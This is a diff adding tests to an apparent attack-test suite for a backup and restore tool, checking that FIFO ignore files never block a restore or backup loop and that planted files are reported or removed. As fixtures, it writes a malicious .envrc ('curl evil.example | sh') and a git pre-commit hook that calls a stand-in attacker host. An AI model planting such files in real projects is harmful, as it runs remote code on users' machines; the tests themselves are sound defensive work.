@@ -7,10 +7,13 @@ from __future__ import annotations
 
 import json
 import os
+import signal
+import stat
+import time
 from pathlib import Path
 
 from tests.attack.tools import Host, agsekit, holding_secret, racing, watching
-from tests.helpers import manifest_as_rows, snapshots_in, write, write_manifest_rows
+from tests.helpers import manifest_as_rows, snapshots_in, start_cli, write, write_manifest_rows
 
 
 def test_hostile_backupignore_files_are_not_applied_and_never_block(
@@ -51,6 +54,53 @@ def test_hostile_backupignore_files_are_not_applied_and_never_block(
     for folder in ("fifo", "zero", "big"):
         assert (snapshot / folder / "kept.txt").read_text() == f"{folder} is backed up\n"
     assert watch.seen == [] and host.state() == before
+
+
+def test_a_fifo_backupignore_never_blocks_a_restore_or_a_loop(
+    project: Path, store: Path, env: dict[str, str]
+) -> None:
+    """FIFOs named .backupignore (at the top and in a folder; nobody ever writes to them)
+    planted after the good snapshot: an in-place restore, with and without --delete,
+    and a backup loop each finish, and none reads or keeps a FIFO as rules."""
+    write(project / "main.py", "print('hi')\n")
+    write(project / "sub" / "notes.txt", "notes\n")
+    first = agsekit("backup-once", "--source-dir", project, "--dest-dir", store, env=env)
+    assert first.returncode == 0, first.stderr
+    good = snapshots_in(store)[0]
+    os.mkfifo(project / ".backupignore")
+    os.mkfifo(project / "sub" / ".backupignore")
+    write(project / "main.py", "print('changed by the agent')\n")
+    restore = ("backup-restore", "--dest-dir", store, "--snapshot", good, "--in-place")
+    kept = agsekit(*restore, env=env, timeout=30)
+    assert kept.returncode == 0, kept.stderr
+    assert (project / "main.py").read_text() == "print('hi')\n"
+    assert "is a FIFO, not a file: not applied" in kept.stdout + kept.stderr
+    write(project / "main.py", "print('changed again')\n")
+    loop = start_cli(
+        "backup-repeated", "--source-dir", project, "--dest-dir", store, "--interval", "0.01",
+        env=env,
+    )  # fmt: skip
+    try:
+        deadline = time.monotonic() + 30
+        while len(snapshots_in(store)) < 3:  # good, the restore's safety snapshot, the loop's
+            assert time.monotonic() < deadline and loop.poll() is None, "the loop is stuck"
+            time.sleep(0.05)
+    finally:
+        loop.send_signal(signal.SIGINT)
+        _out, err = loop.communicate(timeout=30)
+    assert loop.returncode == 130, err
+    taken = store / snapshots_in(store)[-1]
+    assert (taken / "main.py").read_text() == "print('changed again')\n"
+    assert not (taken / ".backupignore").exists() and not (taken / "sub" / ".backupignore").exists()
+    deleting = agsekit(*restore, "--delete", env=env, timeout=30)
+    assert deleting.returncode == 0, deleting.stderr
+    assert (project / "main.py").read_text() == "print('hi')\n"
+    # no snapshot can hold a FIFO, so none is removed; each is named
+    assert (
+        "skipped 2 socket(s), FIFO(s) or device(s): .backupignore (a FIFO), "
+        "sub/.backupignore (a FIFO)"
+    ) in deleting.stderr
+    assert stat.S_ISFIFO(os.lstat(project / "sub" / ".backupignore").st_mode)
 
 
 def test_fifos_swapped_in_for_files_while_they_are_copied(
@@ -199,6 +249,38 @@ def test_planted_files_hidden_by_the_live_backupignore_are_removed_and_saved_fir
     assert (store / safety / ".envrc").read_text() == "curl evil.example | sh\n"
     assert (store / safety / ".git" / "hooks" / "pre-commit").read_text().endswith("evil.example\n")
     assert f"--snapshot {safety} --in-place --delete" in report
+
+
+def test_planted_files_hidden_by_the_live_backupignore_are_kept_and_named_without_delete(
+    project: Path, store: Path, env: dict[str, str]
+) -> None:
+    """The same planted .envrc and git hook, restored without --delete: they stay, byte for
+    byte and inode for inode, but the report names each and says how to remove them; the
+    way it names works (--delete then removes them, and nothing else of the user's)."""
+    write(project / "main.py", "print('hi')\n")
+    write(project / ".git" / "config", "[core]\n")
+    write(project / ".backupignore", "*.log\n")
+    first = agsekit("backup-once", "--source-dir", project, "--dest-dir", store, env=env)
+    assert first.returncode == 0, first.stderr
+    good = snapshots_in(store)[0]
+    envrc = write(project / ".envrc", "curl evil.example | sh\n")
+    hook = write(project / ".git" / "hooks" / "pre-commit", "#!/bin/sh\ncurl evil.example\n")
+    write(project / ".backupignore", "*.log\n.envrc\n.git/hooks/\n")
+    write(project / "debug.log", "ignored by both rules: kept\n")
+    planted = {p: (p.read_bytes(), p.stat().st_ino) for p in (envrc, hook)}
+    restore = ("backup-restore", "--dest-dir", store, "--snapshot", good, "--in-place")
+    proc = agsekit(*restore, env=env)
+    assert proc.returncode == 0, proc.stderr
+    assert (project / ".backupignore").read_text() == "*.log\n"  # the snapshot's rules
+    assert {p: (p.read_bytes(), p.stat().st_ino) for p in planted} == planted  # kept as is
+    kept = next(line for line in proc.stdout.splitlines() if "kept that the snapshot" in line)
+    assert "add --delete to remove them" in kept
+    assert kept.endswith(": .envrc, .git/hooks")
+    assert "debug.log" not in kept  # the snapshot's own rules leave that out: never removed
+    removed = agsekit(*restore, "--delete", env=env)
+    assert removed.returncode == 0, removed.stderr
+    assert not envrc.exists() and not hook.exists()
+    assert (project / "debug.log").exists() and (project / ".git" / "config").exists()
 
 
 def test_a_planted_symlink_planted_again_is_removed_again(
